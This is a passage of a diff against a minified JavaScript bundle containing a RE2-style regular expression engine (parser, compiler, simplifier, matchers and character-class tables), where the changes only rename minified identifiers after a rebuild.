 index(e,s);if(f<0)break;s+=f}if(a.ncap>0&&(a.cap[0]=s),a.tryBacktrack(e,n,e.prog.start,s,r)){u=!0;break}const B=n.step(s);
 d=B===_t.EOF()?0:B&7}}if(!u)return Ti.push(a),null;const l=i===0?[]:V.toArray(a.matchcap.subarray(0,i));return Ti.push(a),
-l}},dg=class{constructor(t){this.sparse=new Uint32Array(t),this.dense=new Uint32Array(t),this.size=0,this.nextIndex=0}empty(){
+l}},ug=class{constructor(t){this.sparse=new Uint32Array(t),this.dense=new Uint32Array(t),this.size=0,this.nextIndex=0}empty(){
 return this.nextIndex>=this.size}next(){return this.dense[this.nextIndex++]}clear(){this.size=0,this.nextIndex=0}contains(t){
 return t<this.sparse.length&&this.sparse[t]<this.size&&this.dense[this.sparse[t]]===t}insert(t){this.contains(t)||this.insertNew(
 t)}insertNew(t){t>=this.sparse.length||(this.sparse[t]=this.size,this.dense[this.size]=t,this.size++)}};const EN=(t,e,n,s)=>{
@@ -6406,8 +6409,8 @@ arg,s.runes=n.runes?new Int32Array(n.runes):new Int32Array(0),s.next=null,this.i
 t);for(let n=0;n<e.inst.length;n++){const s=e.inst[n];if(s.op!==T.ALT&&s.op!==T.ALT_MATCH)continue;let r="out",i="arg",o=e.
 inst[s[i]];if(o.op!==T.ALT&&o.op!==T.ALT_MATCH&&(r="arg",i="out",o=e.inst[s[i]],o.op!==T.ALT&&o.op!==T.ALT_MATCH))continue;
 const a=e.inst[s[r]];if(a.op===T.ALT||a.op===T.ALT_MATCH)continue;let c="out",u="arg",l=!1;o.out===n?l=!0:o.arg===n&&(l=
-!0,c="arg",u="out"),l&&(o[c]=s[r]),s[r]===o[c]&&(s[i]=o[u])}return e},DN=t=>{if(t.inst.length>=1e3)return null;const e=new dg(
-t.inst.length),n=new dg(t.inst.length),s=new Array(t.inst.length),r=new Array(t.inst.length).fill(!1),i=o=>{let a=!0;const c=t.
+!0,c="arg",u="out"),l&&(o[c]=s[r]),s[r]===o[c]&&(s[i]=o[u])}return e},DN=t=>{if(t.inst.length>=1e3)return null;const e=new ug(
+t.inst.length),n=new ug(t.inst.length),s=new Array(t.inst.length),r=new Array(t.inst.length).fill(!1),i=o=>{let a=!0;const c=t.
 inst[o];if(n.contains(o))return!0;switch(n.insert(o),c.op){case T.ALT:case T.ALT_MATCH:{a=i(c.out)&&i(c.arg);let u=r[c.out],
 l=r[c.arg];if(u&&l)return!1;if(l){const h=c.out;c.out=c.arg,c.arg=h;const m=u;u=l,l=m}u&&(r[o]=!0,c.op=T.ALT_MATCH);const d=s[c.
 out]||[],B=s[c.arg]||[],f=EN(d,B,c.out,c.arg);if(!f)return!1;s[o]=new Int32Array(f.merged),c.next=new Uint32Array(f.next);
@@ -6426,7 +6429,7 @@ se.MAX_RUNE]),c.next=new Uint32Array(Math.floor(s[o].length/2)+1).fill(c.out)}re
 empty();)if(n.clear(),!i(e.next()))return null;for(let o=0;o<t.inst.length;o++)s[o]&&(t.inst[o].runes=s[o]);return t},xN=(t,e)=>{
 for(let n=0;n<e.inst.length;n++){const s=e.inst[n];switch(s.op){case T.ALT:case T.ALT_MATCH:case T.RUNE:break;case T.CAPTURE:case T.
 EMPTY_WIDTH:case T.NOP:case T.MATCH:case T.FAIL:t.inst[n].next=null;break;case T.RUNE1:case T.RUNE_ANY:case T.RUNE_ANY_NOT_NL:
-t.inst[n].next=null,t.inst[n].op=s.op,t.inst[n].runes=s.runes?new Int32Array(s.runes):new Int32Array(0)}}};var Bg=class TC{static compile(e){
+t.inst[n].next=null,t.inst[n].op=s.op,t.inst[n].runes=s.runes?new Int32Array(s.runes):new Int32Array(0)}}};var lg=class AC{static compile(e){
 if(e.start===0||e.numLb>0)return null;const n=e.inst[e.start];if(n.op!==T.EMPTY_WIDTH||(n.arg&V.EMPTY_BEGIN_TEXT)===0)return null;
 let s=!1;for(let i=0;i<e.inst.length;i++)if(e.inst[i].op===T.ALT||e.inst[i].op===T.ALT_MATCH){s=!0;break}for(let i=0;i<e.
 inst.length;i++){const o=e.inst[i],a=e.inst[o.out].op;switch(o.op){case T.ALT:case T.ALT_MATCH:if(a===T.MATCH||e.inst[o.
@@ -6437,10 +6440,10 @@ return null;const a=new Int32Array(i).fill(-1);let c=!1,u=n.step(s),l=u>>3,d=u&7
 step(s+d),B!==_t.EOF()&&(f=B>>3,h=B&7));let m=s===0?V.emptyOpContext(-1,l):n.context(s),g=o.start,C;for(;;){switch(C=o.inst[g],
 g=C.out,C.op){case T.MATCH:return r===L.ANCHOR_BOTH&&s!==n.endPos()?null:(c=!0,a.length>0&&(a[0]=0,a[1]=s),i===0?[]:V.toArray(
 a));case T.RUNE:if(!C.matchRune(l))return null;break;case T.RUNE1:if(l!==C.runes[0])return null;break;case T.RUNE_ANY:break;case T.
-RUNE_ANY_NOT_NL:if(l===10)return null;break;case T.ALT:case T.ALT_MATCH:g=TC.next(C,l);continue;case T.FAIL:return null;case T.
+RUNE_ANY_NOT_NL:if(l===10)return null;break;case T.ALT:case T.ALT_MATCH:g=AC.next(C,l);continue;case T.FAIL:return null;case T.
 NOP:continue;case T.EMPTY_WIDTH:if((C.arg&~m)!==0)return null;continue;case T.CAPTURE:C.arg<a.length&&(a[C.arg]=s);continue;default:
 throw new Ai("bad inst")}if(d===0)break;m=V.emptyOpContext(l,f),s+=d,l=f,d=h,l!==-1&&(B=n.step(s+d),B!==_t.EOF()?(f=B>>3,
-h=B&7):(f=-1,h=0))}return c?i===0?[]:V.toArray(a):null}},x=class ge{static Op=rg(["NO_MATCH","EMPTY_MATCH","LITERAL","CH\
+h=B&7):(f=-1,h=0))}return c?i===0?[]:V.toArray(a):null}},x=class ge{static Op=ng(["NO_MATCH","EMPTY_MATCH","LITERAL","CH\
 AR_CLASS","ANY_CHAR_NOT_NL","ANY_CHAR","BEGIN_LINE","END_LINE","BEGIN_TEXT","END_TEXT","WORD_BOUNDARY","NO_WORD_BOUNDARY",
 "CAPTURE","STAR","PLUS","QUEST","REPEAT","CONCAT","ALTERNATE","PLB","NLB","LEFT_PAREN","VERTICAL_BAR"]);static isPseudoOp(e){
 return e>=ge.Op.LEFT_PAREN}static emptySubs(){return[]}static quoteIfHyphen(e){return e===P.CODES["-"]?"\\":""}static fromRegexp(e){
@@ -6477,10 +6480,10 @@ if((this.flags&L.NON_GREEDY)!==(e.flags&L.NON_GREEDY)||!this.subs[0].equals(e.su
 if((this.flags&L.NON_GREEDY)!==(e.flags&L.NON_GREEDY)||this.min!==e.min||this.max!==e.max||!this.subs[0].equals(e.subs[0]))
 return!1;break;case ge.Op.CAPTURE:if(this.cap!==e.cap||(this.name===null?e.name!==null:this.name!==e.name)||!this.subs[0].
 equals(e.subs[0]))return!1;break;case ge.Op.PLB:case ge.Op.NLB:if(this.lb!==e.lb||!this.subs[0].equals(e.subs[0]))return!1}
-return!0}},Nc=class{static walk(t,e){const n=[];let s=t,r;for(;;){if(s.subs.length===0)r=e.leaf(s);else{const i=e.enter(
+return!0}},Tc=class{static walk(t,e){const n=[];let s=t,r;for(;;){if(s.subs.length===0)r=e.leaf(s);else{const i=e.enter(
 s);if(i.result===void 0){n.push({re:s,state:i,i:0}),s=s.subs[0];continue}r=i.result}for(;;){if(n.length===0)return r;const i=n[n.
 length-1];if(e.child(i.re,i.state,r,i.i),i.i++,i.state.result===void 0&&i.i<i.re.subs.length){s=i.re.subs[i.i];break}n.pop(),
-r=i.state.result!==void 0?i.state.result:e.leave(i.re,i.state)}}}},fg=class{constructor(t,e){const n=new Map,s=[0],r=[0],
+r=i.state.result!==void 0?i.state.result:e.leave(i.re,i.state)}}}},dg=class{constructor(t,e){const n=new Map,s=[0],r=[0],
 i=[0],o=[0];for(const h of t){let m=0;for(let g=0;g<h.length;g++){const C=m*e+h[g];let b=n.get(C);b===void 0&&(b=s.length,
 n.set(C,b),s.push(m),r.push(h[g]),i.push(i[m]+1),o.push(0)),m=b}o[m]=1}const a=s.length,c=new Int32Array(a-1);for(let h=1;h<
 a;h++)c[h-1]=h;c.sort((h,m)=>s[h]-s[m]||r[h]-r[m]);const u=new Int32Array(a+1);for(let h=1;h<a;h++)u[s[h]+1]++;for(let h=0;h<
@@ -6495,11 +6498,11 @@ for(let r=e;r<n;r++)if(s=this.advance(s,t[r]),this.match[s]===1)return!0;return!
 AND:2,OR:3};static MAX_SCANS=32;static MAX_AC_UNITS=1<<18;constructor(e){this.type=e,this.subs=[],this.str="",this.bytes=
 null,this.cost=e===bs.Type.EXACT?1:0,this.allExact=!1,this.ac16=null,this.ac8=null}automaton16(){if(this.ac16===null){const e=this.
 subs.map(n=>{const s=new Array(n.str.length);for(let r=0;r<n.str.length;r++)s[r]=n.str.charCodeAt(r);return s});this.ac16=
-new fg(e,65536)}return this.ac16}automaton8(){return this.ac8===null&&(this.ac8=new fg(this.subs.map(e=>e.bytes),256)),this.
+new dg(e,65536)}return this.ac16}automaton8(){return this.ac8===null&&(this.ac8=new dg(this.subs.map(e=>e.bytes),256)),this.
 ac8}eval(e,n){switch(this.type){case bs.Type.NONE:return!0;case bs.Type.EXACT:return e.hasString(this,n);case bs.Type.AND:
 for(let s=0;s<this.subs.length;s++)if(!this.subs[s].eval(e,n))return!1;return!0;case bs.Type.OR:if(this.allExact)return e.
 hasAnyString(this,n);for(let s=0;s<this.subs.length;s++)if(this.subs[s].eval(e,n))return!0;return!1;default:return!0}}},
-ON=class _s{static build(e){return e?Nc.walk(e,_s.WALKER):new ve(ve.Type.NONE)}static WALKER={leaf:e=>_s.leaf(e),enter:e=>_s.
+ON=class _s{static build(e){return e?Tc.walk(e,_s.WALKER):new ve(ve.Type.NONE)}static WALKER={leaf:e=>_s.leaf(e),enter:e=>_s.
 enter(e),child:(e,n,s)=>_s.child(e,n,s),leave:(e,n)=>_s.leave(e,n)};static leaf(e){if(e.op!==x.Op.LITERAL)return new ve(
 ve.Type.NONE);if(e.runes.length===0||(e.flags&L.FOLD_CASE)!==0)return new ve(ve.Type.NONE);let n="";for(let r=0;r<e.runes.
 length;r++){if(se.isUnsearchable(e.runes[r]))return new ve(ve.Type.NONE);n+=String.fromCodePoint(e.runes[r])}const s=new ve(
@@ -6530,9 +6533,9 @@ e.tail)}toString(){let t="";for(let e=0;e<this.inst.length;e++){const n=t.length
    ".substring(t.length-n),t+=this.inst[e],t+=`
 `}return t}};const SN=new Int32Array([0,P.CODES[`
 `]-1,P.CODES[`
-`]+1,se.MAX_RUNE]),hg=new Int32Array([0,se.MAX_RUNE]);var $i=class{constructor(t=0,e=new Lt,n=!1){this.i=t,this.out=e,this.
-nullable=n}},pg=class Vc{static compileRegexp(e){const n=new Vc,s=n.compile(e);return n.prog.patch(s.out,n.newInst(T.MATCH).
-i),n.prog.start=s.i,n.prog.markLookbehindInsts(),n.prog}static compileSet(e){const n=new Vc;if(e.length===0)return n.prog.
+`]+1,se.MAX_RUNE]),Bg=new Int32Array([0,se.MAX_RUNE]);var $i=class{constructor(t=0,e=new Lt,n=!1){this.i=t,this.out=e,this.
+nullable=n}},fg=class Zc{static compileRegexp(e){const n=new Zc,s=n.compile(e);return n.prog.patch(s.out,n.newInst(T.MATCH).
+i),n.prog.start=s.i,n.prog.markLookbehindInsts(),n.prog}static compileSet(e){const n=new Zc;if(e.length===0)return n.prog.
 start=n.newInst(T.FAIL).i,n.prog.markLookbehindInsts(),n.prog;let s=[];for(let i=0;i<e.length;i++){n.lbOffset=n.prog.numLb;
 const o=n.compile(e[i]),a=n.newInst(T.MATCH);n.prog.getInst(a.i).arg=i,n.prog.patch(o.out,a.i),s.push(o.i)}let r=s[0];for(let i=1;i<
 s.length;i++){const o=n.newInst(T.ALT),a=n.prog.getInst(o.i);a.out=r,a.arg=s[i],r=o.i}return n.prog.start=r,n.prog.markLookbehindInsts(),
@@ -6555,13 +6558,13 @@ length===1||e.length===2&&e[0]===e[1]?r.op=T.RUNE1:e.length===2&&e[0]===0&&e[1]=
 4&&e[0]===0&&e[1]===P.CODES[`
 `]-1&&e[2]===P.CODES[`
 `]+1&&e[3]===se.MAX_RUNE&&(r.op=T.RUNE_ANY_NOT_NL),s}lookBehind(e,n){const s=Math.sign(n)*(Math.abs(n)+this.lbOffset),r=this.
-newInst(T.LB_WRITE);this.prog.getInst(r.i).arg=s;const i=this.rune(hg,0),o=this.star(i,!0),a=this.cat(o,e);this.prog.patch(
+newInst(T.LB_WRITE);this.prog.getInst(r.i).arg=s;const i=this.rune(Bg,0),o=this.star(i,!0),a=this.cat(o,e);this.prog.patch(
 a.out,r.i);const c=this.newInst(T.LB_CHECK);return this.prog.getInst(c.i).arg=s,this.prog.lbStarts.push(a.i),Math.abs(s)>
-this.prog.numLb&&(this.prog.numLb=Math.abs(s)),c.out=new Lt(c.i<<1,c.i<<1),c}compile(e){return Nc.walk(e,this.walker)}leaf(e){
+this.prog.numLb&&(this.prog.numLb=Math.abs(s)),c.out=new Lt(c.i<<1,c.i<<1),c}compile(e){return Tc.walk(e,this.walker)}leaf(e){
 switch(e.op){case x.Op.NO_MATCH:return this.fail();case x.Op.EMPTY_MATCH:return this.nop();case x.Op.LITERAL:{if(e.runes.
 length===0)return this.nop();let n=null;for(let s of e.runes){let r=this.runeCache.get(s);r===void 0&&(r=new Int32Array(
 [s]),this.runeCache.set(s,r));const i=this.rune(r,e.flags);n=n===null?i:this.cat(n,i)}return n}case x.Op.CHAR_CLASS:return this.
-rune(e.runes,e.flags);case x.Op.ANY_CHAR_NOT_NL:return this.rune(SN,0);case x.Op.ANY_CHAR:return this.rune(hg,0);case x.
+rune(e.runes,e.flags);case x.Op.ANY_CHAR_NOT_NL:return this.rune(SN,0);case x.Op.ANY_CHAR:return this.rune(Bg,0);case x.
 Op.BEGIN_LINE:return this.empty(V.EMPTY_BEGIN_LINE);case x.Op.END_LINE:return this.empty(V.EMPTY_END_LINE);case x.Op.BEGIN_TEXT:
 return this.empty(V.EMPTY_BEGIN_TEXT);case x.Op.END_TEXT:return this.empty(V.EMPTY_END_TEXT);case x.Op.WORD_BOUNDARY:return this.
 empty(V.EMPTY_WORD_BOUNDARY);case x.Op.NO_WORD_BOUNDARY:return this.empty(V.EMPTY_NO_WORD_BOUNDARY);case x.Op.CONCAT:case x.
@@ -6573,7 +6576,7 @@ n.f,s):n.sub=s}leave(e,n){switch(e.op){case x.Op.PLB:case x.Op.NLB:return this.l
 const s=this.cap(e.cap<<1|1);return this.cat(this.cat(n.bra,n.sub),s)}case x.Op.STAR:return this.star(n.sub,(e.flags&L.NON_GREEDY)!==
 0);case x.Op.PLUS:return this.plus(n.sub,(e.flags&L.NON_GREEDY)!==0);case x.Op.QUEST:return this.quest(n.sub,(e.flags&L.
 NON_GREEDY)!==0);case x.Op.CONCAT:case x.Op.ALTERNATE:return n.f;default:throw new sr("regexp: unhandled case in compile")}}},
-mg=class yt{static simplify(e){return e===null?null:Nc.walk(e,yt.WALKER)}static WALKER={leaf:e=>yt.leaf(e),enter:e=>yt.enter(
+hg=class yt{static simplify(e){return e===null?null:Tc.walk(e,yt.WALKER)}static WALKER={leaf:e=>yt.leaf(e),enter:e=>yt.enter(
 e),child:(e,n,s,r)=>yt.child(e,n,s,r),leave:(e,n)=>yt.leave(e,n)};static leaf(e){if(e.op===x.Op.CHAR_CLASS){if(e.runes===
 null)return e;if(e.runes.length===0)return new x(x.Op.NO_MATCH);if(e.runes.length===2&&e.runes[0]===0&&e.runes[1]===se.MAX_RUNE)
 return new x(x.Op.ANY_CHAR);if(e.runes.length===4&&e.runes[0]===0&&e.runes[1]===P.CODES[`
@@ -6600,18 +6603,18 @@ CONCAT){for(let o=0;o<i.subs.length;o++)n.push(i.subs[o]);continue}n.push(i)}}if
 if(n.length===1)return n[0];const s=new x(x.Op.CONCAT);return s.subs=n,s}static simplify1(e,n,s,r){if(s.op===x.Op.EMPTY_MATCH)
 return s;if(s.op===x.Op.NO_MATCH)return e===x.Op.PLUS?s:new x(x.Op.EMPTY_MATCH);if(e===s.op&&(n&L.NON_GREEDY)===(s.flags&
 L.NON_GREEDY))return s;if(r!==null&&r.op===e&&(r.flags&L.NON_GREEDY)===(n&L.NON_GREEDY)&&s===r.subs[0])return r;const i=new x(
-e);return i.flags=n,i.subs=[s],i}},Re=class{constructor(t,e){this.sign=t,this.cls=e}};const gg=[48,57],Cg=[9,10,12,13,32,
-32],yg=[48,57,65,90,95,95,97,122],wg=new Map([["\\d",new Re(1,gg)],["\\D",new Re(-1,gg)],["\\s",new Re(1,Cg)],["\\S",new Re(
--1,Cg)],["\\w",new Re(1,yg)],["\\W",new Re(-1,yg)]]),bg=[48,57,65,90,97,122],_g=[65,90,97,122],Eg=[0,127],kg=[9,9,32,32],
-vg=[0,31,127,127],Dg=[48,57],xg=[33,126],Og=[97,122],Ag=[32,126],Sg=[33,47,58,64,91,96,123,126],Tg=[9,13,32,32],Ig=[65,90],
-$g=[48,57,65,90,95,95,97,122],Rg=[48,57,65,70,97,102],Ng=new Map([["[:alnum:]",new Re(1,bg)],["[:^alnum:]",new Re(-1,bg)],
-["[:alpha:]",new Re(1,_g)],["[:^alpha:]",new Re(-1,_g)],["[:ascii:]",new Re(1,Eg)],["[:^ascii:]",new Re(-1,Eg)],["[:blan\
-k:]",new Re(1,kg)],["[:^blank:]",new Re(-1,kg)],["[:cntrl:]",new Re(1,vg)],["[:^cntrl:]",new Re(-1,vg)],["[:digit:]",new Re(
-1,Dg)],["[:^digit:]",new Re(-1,Dg)],["[:graph:]",new Re(1,xg)],["[:^graph:]",new Re(-1,xg)],["[:lower:]",new Re(1,Og)],[
-"[:^lower:]",new Re(-1,Og)],["[:print:]",new Re(1,Ag)],["[:^print:]",new Re(-1,Ag)],["[:punct:]",new Re(1,Sg)],["[:^punc\
-t:]",new Re(-1,Sg)],["[:space:]",new Re(1,Tg)],["[:^space:]",new Re(-1,Tg)],["[:upper:]",new Re(1,Ig)],["[:^upper:]",new Re(
--1,Ig)],["[:word:]",new Re(1,$g)],["[:^word:]",new Re(-1,$g)],["[:xdigit:]",new Re(1,Rg)],["[:^xdigit:]",new Re(-1,Rg)]]);
-var qn=class zi{static charClassToString(e,n){let s="[";for(let r=0;r<n;r+=2){r>0&&(s+=" ");const i=e[r],o=e[r+1];i===o?
+e);return i.flags=n,i.subs=[s],i}},Re=class{constructor(t,e){this.sign=t,this.cls=e}};const pg=[48,57],mg=[9,10,12,13,32,
+32],gg=[48,57,65,90,95,95,97,122],Cg=new Map([["\\d",new Re(1,pg)],["\\D",new Re(-1,pg)],["\\s",new Re(1,mg)],["\\S",new Re(
+-1,mg)],["\\w",new Re(1,gg)],["\\W",new Re(-1,gg)]]),yg=[48,57,65,90,97,122],wg=[65,90,97,122],bg=[0,127],_g=[9,9,32,32],
+Eg=[0,31,127,127],kg=[48,57],vg=[33,126],Dg=[97,122],xg=[32,126],Og=[33,47,58,64,91,96,123,126],Ag=[9,13,32,32],Sg=[65,90],
+Tg=[48,57,65,90,95,95,97,122],Ig=[48,57,65,70,97,102],$g=new Map([["[:alnum:]",new Re(1,yg)],["[:^alnum:]",new Re(-1,yg)],
+["[:alpha:]",new Re(1,wg)],["[:^alpha:]",new Re(-1,wg)],["[:ascii:]",new Re(1,bg)],["[:^ascii:]",new Re(-1,bg)],["[:blan\
+k:]",new Re(1,_g)],["[:^blank:]",new Re(-1,_g)],["[:cntrl:]",new Re(1,Eg)],["[:^cntrl:]",new Re(-1,Eg)],["[:digit:]",new Re(
+1,kg)],["[:^digit:]",new Re(-1,kg)],["[:graph:]",new Re(1,vg)],["[:^graph:]",new Re(-1,vg)],["[:lower:]",new Re(1,Dg)],[
+"[:^lower:]",new Re(-1,Dg)],["[:print:]",new Re(1,xg)],["[:^print:]",new Re(-1,xg)],["[:punct:]",new Re(1,Og)],["[:^punc\
+t:]",new Re(-1,Og)],["[:space:]",new Re(1,Ag)],["[:^space:]",new Re(-1,Ag)],["[:upper:]",new Re(1,Sg)],["[:^upper:]",new Re(
+-1,Sg)],["[:word:]",new Re(1,Tg)],["[:^word:]",new Re(-1,Tg)],["[:xdigit:]",new Re(1,Ig)],["[:^xdigit:]",new Re(-1,Ig)]]);
+var Wn=class zi{static charClassToString(e,n){let s="[";for(let r=0;r<n;r+=2){r>0&&(s+=" ");const i=e[r],o=e[r+1];i===o?
 s+=`0x${i.toString(16)}`:s+=`0x${i.toString(16)}-0x${o.toString(16)}`}return s+="]",s}static sortRanges(e,n){const s=n>>
 1,r=new Array(s);for(let o=0;o<s;o++)r[o]=o;r.sort((o,a)=>e[2*o]-e[2*a]||e[2*a+1]-e[2*o+1]);const i=e.slice(0,n);for(let o=0;o<
 s;o++)e[2*o]=i[2*r[o]],e[2*o+1]=i[2*r[o]+1]}constructor(e=V.emptyInts()){this.r=e,this.len=e.length}toArray(){return this.
@@ -6660,7 +6663,7 @@ x.Op.CONCAT&&e.subs.length>0){const n=e.subs[0];return n.op===x.Op.EMPTY_MATCH?n
 const s=new x(x.Op.LITERAL);return s.flags=n,s.runes=V.stringToRunes(e),s}static parse(e,n){return new fe(e,n).parseInternal()}static parseRepeat(e){
 const n=e.pos();if(!e.more()||!e.lookingAt("{"))return-1;e.skip(1);const s=fe.parseInt(e);if(s===-1||!e.more())return-1;
 let r;if(!e.lookingAt(","))r=s;else{if(e.skip(1),!e.more())return-1;if(e.lookingAt("}"))r=-1;else if((r=fe.parseInt(e))===
--1)return-1}if(!e.more()||!e.lookingAt("}"))return-1;if(e.skip(1),s<0||s>1e3||r===-2||r>1e3||r>=0&&s>r)throw new qe(fe.ERR_INVALID_REPEAT_SIZE,
+-1)return-1}if(!e.more()||!e.lookingAt("}"))return-1;if(e.skip(1),s<0||s>1e3||r===-2||r>1e3||r>=0&&s>r)throw new We(fe.ERR_INVALID_REPEAT_SIZE,
 e.from(n));return s<<16|r&se.MAX_BMP}static isValidCaptureName(e){if(e.length===0)return!1;for(let n=0;n<e.length;n++){const s=e.
 codePointAt(n);if(s!==P.CODES._&&!V.isalnum(s))return!1}return!0}static parseInt(e){const n=e.pos();for(;e.more()&&e.peek()>=
 P.CODES[0]&&e.peek()<=P.CODES[9];)e.skip(1);const s=e.from(n);return s.length===0||s.length>1&&s.codePointAt(0)===P.CODES[0]?
@@ -6670,11 +6673,11 @@ e.op===x.Op.ANY_CHAR_NOT_NL||e.op===x.Op.ANY_CHAR}static matchRune(e,n){switch(e
 Op.ANY_CHAR_NOT_NL:return n!==P.CODES[`
 `];case x.Op.ANY_CHAR:return!0}return!1}static mergeCharClass(e,n){switch(e.op){case x.Op.ANY_CHAR:break;case x.Op.ANY_CHAR_NOT_NL:
 fe.matchRune(n,P.CODES[`
-`])&&(e.op=x.Op.ANY_CHAR);break;case x.Op.CHAR_CLASS:{const s=new qn(Array.isArray(e.runes)?e.runes:Array.from(e.runes));
+`])&&(e.op=x.Op.ANY_CHAR);break;case x.Op.CHAR_CLASS:{const s=new Wn(Array.isArray(e.runes)?e.runes:Array.from(e.runes));
 n.op===x.Op.LITERAL?s.appendLiteral(n.runes[0],n.flags):s.appendClass(n.runes),e.runes=s.toGrowableArray();break}case x.
-Op.LITERAL:if(n.runes[0]===e.runes[0]&&n.flags===e.flags)break;e.op=x.Op.CHAR_CLASS,e.runes=new qn().appendLiteral(e.runes[0],
+Op.LITERAL:if(n.runes[0]===e.runes[0]&&n.flags===e.flags)break;e.op=x.Op.CHAR_CLASS,e.runes=new Wn().appendLiteral(e.runes[0],
 e.flags).appendLiteral(n.runes[0],n.flags).toGrowableArray()}}static parseEscape(e){const n=e.pos();if(e.skip(1),!e.more())
-throw new qe(fe.ERR_TRAILING_BACKSLASH);let s=e.pop();e:switch(s){case P.CODES[1]:case P.CODES[2]:case P.CODES[3]:case P.
+throw new We(fe.ERR_TRAILING_BACKSLASH);let s=e.pop();e:switch(s){case P.CODES[1]:case P.CODES[2]:case P.CODES[3]:case P.
 CODES[4]:case P.CODES[5]:case P.CODES[6]:case P.CODES[7]:if(!e.more()||e.peek()<P.CODES[0]||e.peek()>P.CODES[7])break;case P.
 CODES[0]:{let r=s-P.CODES[0];for(let i=1;i<3&&!(!e.more()||e.peek()<P.CODES[0]||e.peek()>P.CODES[7]);i++)r=r*8+e.peek()-
 P.CODES[0],e.skip(1);return r}case P.CODES.x:{if(!e.more())break;if(s=e.pop(),s===P.CODES["{"]){let o=0,a=0;for(;;){if(!e.
@@ -6682,24 +6685,24 @@ more())break e;if(s=e.pop(),s===P.CODES["}"])break;const c=V.unhex(s);if(c<0||(a
 0)break e;return a}const r=V.unhex(s);if(!e.more())break;s=e.pop();const i=V.unhex(s);if(r<0||i<0)break;return r*16+i}case P.
 CODES.a:return P.CODES["\x07"];case P.CODES.f:return P.CODES["\f"];case P.CODES.n:return P.CODES[`
 `];case P.CODES.r:return P.CODES["\r"];case P.CODES.t:return P.CODES["	"];case P.CODES.v:return P.CODES["\v"];default:if(s<=
-se.MAX_ASCII&&!V.isalnum(s))return s}throw new qe(fe.ERR_INVALID_ESCAPE,e.from(n))}static parseClassChar(e,n){if(!e.more())
-throw new qe(fe.ERR_MISSING_BRACKET,e.from(n));return e.lookingAt("\\")?fe.parseEscape(e):e.pop()}static hasCapture(e){if(e===
+se.MAX_ASCII&&!V.isalnum(s))return s}throw new We(fe.ERR_INVALID_ESCAPE,e.from(n))}static parseClassChar(e,n){if(!e.more())
+throw new We(fe.ERR_MISSING_BRACKET,e.from(n));return e.lookingAt("\\")?fe.parseEscape(e):e.pop()}static hasCapture(e){if(e===
 null)return!1;if(e.op===x.Op.CAPTURE)return!0;if(e.subs){for(let n of e.subs)if(fe.hasCapture(n))return!0}return!1}constructor(e,n=0){
 this.wholeRegexp=e,this.flags=n,this.numCap=0,this.namedGroups=Object.create(null),this.stack=[],this.free=null,this.numRegexp=
 0,this.numRunes=0,this.repeats=0,this.height=null,this.size=null,this.nlb=0}newRegexp(e){let n=this.free;return n!==null&&
 n.subs!==null&&n.subs.length>0?(this.free=n.subs[0],n.reinit(),n.op=e):(n=new x(e),this.numRegexp+=1),n}reuse(e){this.height!==
 null&&this.height.has(e)&&this.height.delete(e),e.subs!==null&&e.subs.length>0&&(e.subs[0]=this.free),this.free=e}checkLimits(e){
-if(this.numRunes>fe.MAX_RUNES)throw new qe(fe.ERR_LARGE);this.checkSize(e),this.checkHeight(e)}checkSize(e){if(this.size===
+if(this.numRunes>fe.MAX_RUNES)throw new We(fe.ERR_LARGE);this.checkSize(e),this.checkHeight(e)}checkSize(e){if(this.size===
 null){if(this.repeats===0&&(this.repeats=1),e.op===x.Op.REPEAT){let n=e.max;n===-1&&(n=e.min),n<=0&&(n=1),n>Math.floor(fe.
 MAX_SIZE/this.repeats)?this.repeats=fe.MAX_SIZE:this.repeats*=n}if(this.numRegexp<Math.floor(fe.MAX_SIZE/this.repeats))return;
-this.size=new Map;for(let n of this.stack)this.checkSize(n)}if(this.calcSize(e,!0)>fe.MAX_SIZE)throw new qe(fe.ERR_LARGE)}calcSize(e,n=!1){
+this.size=new Map;for(let n of this.stack)this.checkSize(n)}if(this.calcSize(e,!0)>fe.MAX_SIZE)throw new We(fe.ERR_LARGE)}calcSize(e,n=!1){
 if(!n&&this.size!==null&&this.size.has(e))return this.size.get(e);let s=0;switch(e.op){case x.Op.LITERAL:s=e.runes.length;
 break;case x.Op.PLB:case x.Op.NLB:case x.Op.CAPTURE:case x.Op.STAR:s=2+this.calcSize(e.subs[0]);break;case x.Op.PLUS:case x.
 Op.QUEST:s=1+this.calcSize(e.subs[0]);break;case x.Op.CONCAT:for(let r of e.subs)s=s+this.calcSize(r);break;case x.Op.ALTERNATE:
 for(let r of e.subs)s=s+this.calcSize(r);e.subs.length>1&&(s=s+e.subs.length-1);break;case x.Op.REPEAT:{let r=this.calcSize(
 e.subs[0]);if(e.max===-1){e.min===0?s=2+r:s=1+e.min*r;break}s=e.max*r+(e.max-e.min);break}}return s=Math.max(1,s),this.size===
 null&&(this.size=new Map),this.size.set(e,s),s}checkHeight(e){if(!(this.numRegexp<fe.MAX_HEIGHT)){if(this.height===null){
-this.height=new Map;for(let n of this.stack)this.checkHeight(n)}if(this.calcHeight(e,!0)>fe.MAX_HEIGHT)throw new qe(fe.ERR_NESTING_DEPTH)}}calcHeight(e,n=!1){
+this.height=new Map;for(let n of this.stack)this.checkHeight(n)}if(this.calcHeight(e,!0)>fe.MAX_HEIGHT)throw new We(fe.ERR_NESTING_DEPTH)}}calcHeight(e,n=!1){
 if(!n&&this.height!==null&&this.height.has(e))return this.height.get(e);let s=1;for(let r of e.subs){const i=this.calcHeight(
 r);s<1+i&&(s=1+i)}return this.height===null&&(this.height=new Map),this.height.set(e,s),s}pop(){return this.stack.pop()}popToPseudo(){
 const e=this.stack.length;let n=e;for(;n>0&&!x.isPseudoOp(this.stack[n-1].op);)n--;return this.stack.splice(n,e-n)}push(e){
@@ -6715,15 +6718,15 @@ return!1;Array.isArray(i.runes)||(i.runes=Array.from(i.runes));for(let o=0;o<r.r
 return e>=0?(r.runes=[e],r.flags=n,!0):(this.pop(),this.reuse(r),!1)}newLiteral(e,n){const s=this.newRegexp(x.Op.LITERAL);
 return s.flags=n,(n&L.FOLD_CASE)!==0&&(e=fe.minFoldRune(e)),s.runes=[e],s}literal(e){this.push(this.newLiteral(e,this.flags))}op(e){
 const n=this.newRegexp(e);return n.flags=this.flags,this.push(n)}repeat(e,n,s,r,i,o){let a=this.flags;if((a&L.PERL_X)!==
-0&&(i.more()&&i.lookingAt("?")&&(i.skip(1),a^=L.NON_GREEDY),o!==-1))throw new qe(fe.ERR_INVALID_REPEAT_OP,i.from(o));const c=this.
-stack.length;if(c===0)throw new qe(fe.ERR_MISSING_REPEAT_ARGUMENT,i.from(r));const u=this.stack[c-1];if(x.isPseudoOp(u.op))
